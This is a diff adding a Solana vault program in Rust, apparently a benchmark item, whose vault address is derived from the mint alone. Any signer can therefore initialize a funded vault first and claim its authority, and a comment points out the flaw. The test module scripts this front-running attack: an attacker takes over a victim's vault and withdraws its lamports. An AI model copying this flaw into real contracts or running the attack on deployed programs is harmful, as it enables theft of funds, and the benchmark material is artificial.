@@ -0,0 +1,132 @@
+use solana_program::{
+    account_info::{next_account_info, AccountInfo},
+    entrypoint,
+    entrypoint::ProgramResult,
+    msg,
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+
+/// 按 mint 派生的金库，初始化时记录提款权限
+#[repr(C)]
+struct Vault {
+    authority: Pubkey,
+    mint: Pubkey,
+    bump: u8,
+}
+
+#[cfg(not(feature = "no-entrypoint"))]
+entrypoint!(process_instruction);
+
+pub fn process_instruction(
+    program_id: &Pubkey,
+    accounts: &[AccountInfo],
+    instruction_data: &[u8],
+) -> ProgramResult {
+    let accounts_iter = &mut accounts.iter();
+    let vault_account = next_account_info(accounts_iter)?;
+    let mint = next_account_info(accounts_iter)?;
+    let signer = next_account_info(accounts_iter)?;
+
+    if vault_account.owner != program_id {
+        return Err(ProgramError::IncorrectProgramId);
+    }
+    if !signer.is_signer {
+        return Err(ProgramError::MissingRequiredSignature);
+    }
+
+    match instruction_data[0] {
+        0 => {
+            // 种子里只有 mint，地址对得上不代表调用者就是金库的主人
+            let (expected, bump) =
+                Pubkey::find_program_address(&[b"vault", mint.key.as_ref()], program_id);
+            if expected != *vault_account.key {
+                return Err(ProgramError::InvalidSeeds);
+            }
+            if vault_account.data_len() != 0 {
+                return Err(ProgramError::AccountAlreadyInitialized);
+            }
+            vault_account.realloc(std::mem::size_of::<Vault>(), false)?;
+            let vault = Vault {
+                authority: *signer.key,
+                mint: *mint.key,
+                bump,
+            };
+            let mut data = vault_account.data.borrow_mut();
+            unsafe { std::ptr::write_unaligned(data.as_mut_ptr() as *mut Vault, vault) };
+            msg!("Vault initialized");
+        }
+        1 => {
+            if vault_account.data_len() == 0 {
+                return Err(ProgramError::UninitializedAccount);
+            }
+            let amount = u64::from_le_bytes(instruction_data[1..9].try_into().unwrap());
+            let vault = unsafe {
+                std::ptr::read_unaligned(vault_account.data.borrow().as_ptr() as *const Vault)
+            };
+            if vault.authority != *signer.key {
+                return Err(ProgramError::InvalidAccountData);
+            }
+            **vault_account.try_borrow_mut_lamports()? -= amount;
+            **signer.try_borrow_mut_lamports()? += amount;
+            msg!("Withdrew {}", amount);
+        }
+        _ => return Err(ProgramError::InvalidInstructionData),
+    }
+
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use solana_program::{program_error::ProgramError, pubkey::Pubkey, system_program};
+    use solracebench_testkit::{name_key, Env, TestAccount};
+
+    #[test]
+    fn initialize_then_withdraw() {
+        let program_id = name_key("vault3");
+        let (vault_key, _) =
+            Pubkey::find_program_address(&[b"vault", name_key("mint").as_ref()], &program_id);
+        let env = Env::new(program_id);
+        let mut vault = TestAccount::new(vault_key, program_id).with_lamports(11_000_000);
+        let mut mint = TestAccount::new(name_key("mint"), system_program::ID);
+        let mut victim = TestAccount::new(name_key("victim"), system_program::ID)
+            .with_lamports(1_000_000)
+            .signer();
+        let mut attacker = TestAccount::new(name_key("attacker"), system_program::ID)
+            .with_lamports(1_000_000)
+            .signer();
+
+        // attacker 抢先初始化 victim 已经存入 lamports 的金库
+        env.call_with(
+            super::process_instruction,
+            &mut [&mut vault, &mut mint, &mut attacker],
+            &[0],
+        )
+        .assert_ok();
+
+        // victim 初始化自己的金库
+        env.call_with(
+            super::process_instruction,
+            &mut [&mut vault, &mut mint, &mut victim],
+            &[0],
+        )
+        .assert_err(ProgramError::AccountAlreadyInitialized);
+
+        // attacker 提走存款
+        env.call_with(
+            super::process_instruction,
+            &mut [&mut vault, &mut mint, &mut attacker],
+            &[&[1][..], &10_000_000u64.to_le_bytes()].concat(),
+        )
+        .assert_ok();
+
+        let state =
+            unsafe { std::ptr::read_unaligned(vault.data().as_ptr() as *const super::Vault) };
+        assert_eq!(state.authority, name_key("attacker"));
+        assert_eq!(state.mint, name_key("mint"));
+        assert_eq!(state.bump, 253);
+        vault.assert_lamports(1_000_000);
+        attacker.assert_lamports(11_000_000);
+    }
+}